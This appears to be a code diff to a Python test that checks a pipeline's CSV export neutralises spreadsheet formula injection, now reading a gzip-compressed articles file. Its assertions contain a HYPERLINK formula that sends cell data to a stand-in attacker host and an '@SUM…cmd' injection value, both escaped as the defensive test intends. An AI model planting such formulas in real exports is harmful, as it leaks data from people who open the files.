@@ -4,6 +4,7 @@ cell that begins with =, +, -, @, tab or carriage return gets a leading single q
 from __future__ import annotations
 
 import csv
+import gzip
 import io
 
 import pytest
@@ -40,7 +41,7 @@ def test_csv_articles_title_author_outlet_cannot_run_in_a_spreadsheet(corpus, tm
     corpus_data = pipeline.make_corpus(config, pipeline.BuildReport())
     jobs = emit_jobs(corpus_data, config, SiteLinks(config.site_url, config.repo_url, config.edit_uri))
     files = {page.path.name: page.content for page in jobs.data_files(None).files()}
-    rows = list(csv.DictReader(io.StringIO(files["articles.csv"].decode("utf-8"))))
+    rows = list(csv.DictReader(io.StringIO(gzip.decompress(files["articles.csv.gz"]).decode("utf-8"))))
     row = next(row for row in rows if row["source_file"].endswith("border_watch.txt"))
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
     assert row["authors"] == "'@SUM(1+1)*cmd; Jane Roe"
